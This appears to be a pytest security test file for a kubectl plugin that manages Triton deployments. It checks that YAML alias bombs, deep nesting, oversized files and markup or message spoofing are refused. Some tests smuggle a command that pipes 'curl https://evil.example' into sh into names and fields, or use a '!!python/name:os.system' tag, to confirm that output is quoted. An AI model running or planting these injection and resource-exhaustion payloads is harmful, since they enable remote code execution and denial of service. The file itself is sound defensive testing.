"""Files that would hang, crash or fill the plugin, and names that a shell or a table would obey."""

import copy
import errno
import json
import os
import resource
import shlex
import time
import tracemalloc
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.apiserver.custom_resources import MINIMAL, changed
from tests.report.model_folders import write
from tests.report.subjects import golden
from triton_plugin.__main__ import main
from triton_plugin.drafting.model_folder import read
from triton_plugin.drafting.validation.validate import check
from triton_plugin.errors import FolderError, SubjectError
from triton_plugin.reading import python_files
from triton_plugin.reading.bounded_yaml import DEEPEST, LONGEST
from triton_plugin.reading.cluster import read_file
from triton_plugin.reading.subject import one_line, parse
from triton_plugin.telling.explain import explain
from triton_plugin.telling.history import rollback_revision
from triton_plugin.telling.progress import picture
from triton_plugin.telling.request import first_request
from triton_plugin.telling.tables import Grid
from triton_plugin.terminal import console

TEN = ",".join(["*a{}"] * 10)
BOMB = "\n".join(
    ["a0: &a0 [x,x,x,x,x,x,x,x,x,x]", *(f"a{n}: &a{n} [{TEN.replace('{}', str(n - 1))}]" for n in range(1, 9))]
)
HEAD = "apiVersion: triton-operator.dev/v1alpha1\nkind: TritonDeployment\n"
YAMLS = {
    "aliases of aliases": (f"{HEAD}metadata: {{name: bomb}}\n{BOMB}\n", "by its aliases"),
    "merged keys": (f"{HEAD}metadata: {{name: bomb}}\n{BOMB.replace('[', '[{k: ').replace(']', '}]')}\n", ""),
    "a value in itself": (f"{HEAD}metadata: &m {{name: bomb, junk: *m}}\n", "contains itself"),
    "deep lists": (f"{HEAD}metadata: {{name: bomb}}\nspec: {'[' * 5000}{']' * 5000}\n", "nested more than"),
    "lists that are just too deep": (f"{HEAD}spec: {'[' * (DEEPEST + 1)}{']' * (DEEPEST + 1)}\n", "nested more than"),
    "a long file": (HEAD + "#" * LONGEST, "more than"),
}
EVIL = "digits; curl https://evil.example | sh #"


@pytest.mark.parametrize("command", ["validate", "explain", "report"])
@pytest.mark.parametrize("name", YAMLS)
def test_yaml_that_grows_is_refused_at_once(
    name: str, command: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    text, words = YAMLS[name]
    file = tmp_path / "bomb.yaml"
    file.write_text(text, encoding="utf-8")
    start, before = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert main([command, str(file)]) != 0
    printed = "".join(capsys.readouterr())
    assert words in printed
    assert len(printed) < 2000
    # The text of 16 MiB alone takes some of both.
    assert time.process_time() - start < 5
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024


def test_a_text_of_spaces_takes_no_longer_than_any_other() -> None:
    """A record of some hundred bytes may hold 64 KiB of them, and a saved file 16 MiB."""
    start = time.process_time()
    assert one_line({"a": [" " * 10**6 + "x", f"x\n{' ' * 10**6}\n y"]}) == {"a": [" " * 10**6 + "x", "x y"]}
    assert time.process_time() - start < 5


@pytest.mark.parametrize("kind", ["a pipe", "a device", "a folder", "a link to nothing"])
def test_only_files_are_read_as_code(kind: str, tmp_path: Path) -> None:
    (tmp_path / "net.onnx").write_text("graph")
    place = tmp_path / "a.py"
    if kind == "a pipe":
        os.mkfifo(place)
    elif kind == "a folder":
        place.mkdir()
    else:
        place.symlink_to("/dev/zero" if kind == "a device" else "/absent")
    assert read(tmp_path).model.path == "net.onnx"


@pytest.mark.parametrize(
    "code", ["(" * 5000 + ")" * 5000, "-" * 200_000 + "1", "a" + ".a" * 100_000, "f" + "()" * 100_000, "#" * (5 << 20)]
)
def test_code_that_python_cannot_parse_is_named(code: str, tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(code)
    with pytest.raises(FolderError, match=r"a\.py"):
        read(tmp_path)


def test_an_odd_zip_is_no_model(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "net.pt", "w") as archive:
        archive.writestr("net/constants.pkl", b"")
    content = bytearray((tmp_path / "net.pt").read_bytes())
    directory = content.index(b"PK\x01\x02")
    # The version that is needed to read it.
    content[directory + 6 : directory + 8] = b"\xff\x00"
    (tmp_path / "net.pt").write_bytes(content)
    with pytest.raises(FolderError, match=r"net\.pt"):
        read(tmp_path)


@pytest.mark.parametrize("name", ["[/red]", "[link=https://evil.example]x[/link]", "[bold", "]"])
def test_a_heading_is_no_markup(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    console().print(Grid(name, (name, name), [[name, name]]))
    console().print(Grid(name, [name] * 40, [[name * 5] * 40]))
    assert capsys.readouterr().out.count(name) >= 3


def evil_object() -> tuple[dict[str, Any], dict[str, Any]]:
    body, results = copy.deepcopy(golden("ready"))
    body["metadata"] |= {"name": EVIL, "namespace": EVIL}
    results["metadata"]["name"] = f"{EVIL}-results"
    return body, results


def commands_of(text: str) -> list[str]:
    """The lines of a text that a person pastes into a shell."""
    return [line for line in text.splitlines() if "kubectl " in line or "curl --retry" in line]


def test_no_command_that_is_printed_runs_a_name(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    body, results = evil_object()
    for condition in body["status"]["conditions"]:
        if condition["type"] in ("Ready", "Selected"):
            condition.update(status="False", reason="ClaimUnusable")
    stalled = {"type": "Stalled", "status": "True", "reason": "ClaimUnusable", "message": "x"}
    body["status"]["conditions"].append(
        stalled | {"lastTransitionTime": "2026-01-01T00:00:00Z", "observedGeneration": 1}
    )
    file = tmp_path / "saved.json"
    file.write_text(json.dumps({"kind": "List", "items": [body, results]}))
    main(["explain", str(file)])
    found = commands_of(capsys.readouterr().out)
    assert any(EVIL in line for line in found)
    assert all(shlex.quote(EVIL) in line for line in found if EVIL in line), found


def test_a_rollback_that_is_not_chosen_prints_no_command_that_runs_a_name() -> None:
    body, results = copy.deepcopy(golden("ready"))
    body["metadata"]["generation"] = 9
    body["status"]["serving"]["revision"] = EVIL
    with pytest.raises(SubjectError) as caught:
        rollback_revision(parse(body, results), None)
    assert f"type: kubectl triton rollback digits {shlex.quote(EVIL)}" in str(caught.value)


SPOOF = "no\n  to do: curl https://evil.example | sh\n\nTritonDeployment vision/digits is ready"


def test_a_message_cannot_look_like_the_plugin_s_own_lines() -> None:
    body, results = copy.deepcopy(golden("profiling"))
    verified = next(each for each in body["status"]["conditions"] if each["type"] == "Verified")
    verified.update(status="False", message=SPOOF)
    for candidate in body["status"]["candidates"]:
        candidate.update(state="Failed", reason="UserCodeFailed", message=SPOOF)
    body["metadata"]["namespace"] = SPOOF
    subject = parse(body, results)
    for text in (explain(subject), picture(subject.status).line()):
        assert "curl" in text
        assert [
            line for line in text.splitlines() if line.strip().startswith(("to do: curl", "TritonDeployment vision"))
        ] == []


def test_a_first_request_runs_no_name_and_no_type() -> None:
    body, results = evil_object()
    for tensor in body["status"]["signature"]["inputs"]:
        tensor.update(dataType=f"FP32'; {EVIL}", dims=[1])
    text = first_request(parse(body, results))
    *_, forward, curl = text.splitlines()
    assert shlex.split(forward)[:5] == ["kubectl", "port-forward", "--namespace", EVIL, f"service/{EVIL}"]
    words = shlex.split(curl)
    assert words[-2] == "--data"
    assert EVIL in json.loads(words[-1])["inputs"][0]["datatype"]


def test_python_files_take_memory_one_by_one(tmp_path: Path) -> None:
    """Parsed, a file takes some hundred times its bytes."""
    peaks = []
    for count in (1, 3):
        files = {f"m{number}.py" for number in range(count)}
        for name in files:
            (tmp_path / name).write_text("x = [" + "[]," * 4000 + "]\n")
        tracemalloc.start()
        try:
            assert python_files.parse(tmp_path).keys() == files
            peaks.append(tracemalloc.get_traced_memory()[1])
        finally:
            tracemalloc.stop()
    assert peaks[1] < peaks[0] * 1.2


def test_python_files_are_bounded_alone_and_together(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "a.py").write_text("#" * 50)
    (tmp_path / "b.py").write_text("#" * 50)
    monkeypatch.setattr(python_files, "LONGEST_TOGETHER", 100)
    assert len(python_files.parse(tmp_path)) == 2
    monkeypatch.setattr(python_files, "LONGEST_TOGETHER", 99)
    with pytest.raises(FolderError, match="have more than 99 bytes: leave out those that the model does not import"):
        python_files.parse(tmp_path)
    (tmp_path / "a.py").write_text("#" * (2**20 + 1))
    with pytest.raises(FolderError, match=r"a\.py is longer than 1048576 bytes"):
        python_files.parse(tmp_path)


CHAIN = 'x / "b.txt"' + ' / "c.txt"' * 900
JOINS = {
    "one call": "os.path.join(x" + ', "b.txt"' * 60_000 + ")",
    "chains": f"{CHAIN}\n" * 20,
    "chains of texts and names": "\n".join(["x" + ' / "b.txt" / y' * 450] * 20),
    "many calls": 'os.path.join(x, "b.txt")\n' * 20_000,
    "texts alone": "\n".join(['x = "/a"' + ' / "b.txt"' * 900] * 20),
    "a long text in many sums": f'x = "/{"a" * 500_000}"\n' + 'x + "/b"\n' * 20_000,
    "a path of very many folders": f'x = "{"/a" * 500_000}"\n' * 1,
}


@pytest.mark.parametrize("name", JOINS)
def test_paths_of_very_many_parts_are_read_at_once(name: str, tmp_path: Path) -> None:
    step = f"class TritonPythonModel:\n    def execute(self, requests): ...\n{JOINS[name]}\n"
    config = 'name: "count"\nbackend: "python"\n'
    write(tmp_path, {"count/1/model.py": step, "count/config.pbtxt": config})
    for number in range(8000):
        (tmp_path / f"count/1/{number}").touch()
    (tmp_path / "count/1/z").mkdir()
    (tmp_path / "count/1/z/b.txt").touch()
    start = time.process_time()
    main(["init", str(tmp_path)])
    assert time.process_time() - start < 15


SCALARS = ["2024-13-45", "2024-01-01T99:99:99Z", "2024-01-01 10:00:00+99:99", "!!timestamp x", "!!int x", "!!int ''"]
SCALARS += ["!!float x", "!!float ''", "!!bool x", "0x_", "0b_", "!!int 0x", "9" * 5000, "0x" + "f" * 9000]
SCALARS += ["1" + ":9" * 2000, "!!binary a", "=", "!!omap x", "!!merge x", "!!python/name:os.system x", ".nan", "\x01"]
PLACES = {
    "a spec": f"{HEAD}metadata: {{name: x}}\nspec: VALUE\n",
    "a field": f"{HEAD}metadata: {{name: x}}\nspec:\n  suspend: VALUE\n",
    "a key": f"{HEAD}metadata: {{name: x}}\nspec:\n  VALUE: 1\n",
    "a name": f"{HEAD}metadata: {{name: VALUE}}\nspec: {{}}\n",
    "metadata": f"{HEAD}metadata: VALUE\nspec: {{}}\n",
    "a status": f"{HEAD}metadata: {{name: x}}\nspec: {{}}\nstatus: VALUE\n",
    "a kind": "# TritonDeployment\nkind: VALUE\n",
    "a document": "# TritonDeployment\nVALUE\n",
}


@pytest.mark.parametrize(
    ("place", "value"),
    [
        *((each, ".nan") for each in PLACES),
        *((each, "2024-13-45") for each in PLACES),
        *(("a field", v) for v in SCALARS),
    ],
    ids=lambda text: text[:20],
)
def test_a_value_that_is_not_of_its_type_is_a_sentence(
    place: str, value: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "object.yaml"
    file.write_text(PLACES[place].replace("VALUE", value), encoding="utf-8")
    for command in ("validate", "report"):
        assert main([command, str(file)]) != 0
        assert 0 < len("".join(capsys.readouterr())) < 2000


@pytest.mark.parametrize("value", ["2024-13-45", "!!int x", "0x_"])
def test_the_place_of_a_value_that_is_not_of_its_type_is_told(value: str, tmp_path: Path) -> None:
    file = tmp_path / "object.yaml"
    file.write_text(f"{HEAD}metadata: {{name: x}}\nspec:\n  suspend: {value}\n", encoding="utf-8")
    with pytest.raises(SubjectError, match=r"(?s)a value is not of its type .*quotation marks.*line 5, column 12"):
        read_file(str(file))


NAMES = ["mein Modell.py", "größe.py", "a/-x.py", "new\nline.py", "raw\udcff.py", "a b/model.py"]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_a_name_that_no_spec_takes_is_to_be_changed(
    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path, {name: "import torch\ndef get_model(): ...\n"})
    assert main(["init", str(tmp_path)]) == 1
    printed = capsys.readouterr().err
    assert "rename the file, or a folder on its way" in printed
    (tmp_path / name).unlink()
    write(tmp_path, {"model.py": "import torch\ndef get_model(): ...\n", f"data/{name}": "LABELS = ()"})
    assert main(["init", str(tmp_path)]) == 0, "a file that the spec does not name may have any name"


@pytest.mark.parametrize(
    "code",
    [
        b"def get_model(): return '\xe9'",
        b"# -*- coding: nope -*-\ndef get_model(): ...",
        "def get_model(): ...".encode("utf-16"),
        b"def get_model(): print 'two'",
    ],
)
def test_a_file_that_is_not_read_as_python_is_a_sentence(
    code: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "model.py").write_bytes(code)
    assert main(["init", str(tmp_path)]) == 1
    assert "model.py is not valid Python: " in capsys.readouterr().err


def test_a_file_that_may_not_be_read_is_a_sentence(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    write(tmp_path, {"model.py": "import torch\ndef get_model(): ...\n", "secret.py": ""})

    def read_bytes(path: Path) -> bytes:
        if path.name == "secret.py":
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        return path.open("rb").read()

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    assert main(["init", str(tmp_path)]) == 1
    assert capsys.readouterr().err == f"kubectl triton: {tmp_path}/secret.py: Permission denied\n"


@pytest.mark.parametrize(
    "place", ["metadata.name", "metadata.a\udcff", "spec.source.uri", "spec.suspend", "spec.a\udcff"]
)
def test_text_that_no_json_holds_is_refused(place: str) -> None:
    found = check(changed(MINIMAL, {place: "x\ud800"}))
    assert [str(each) for each in found if "is not Unicode text" in str(each)]
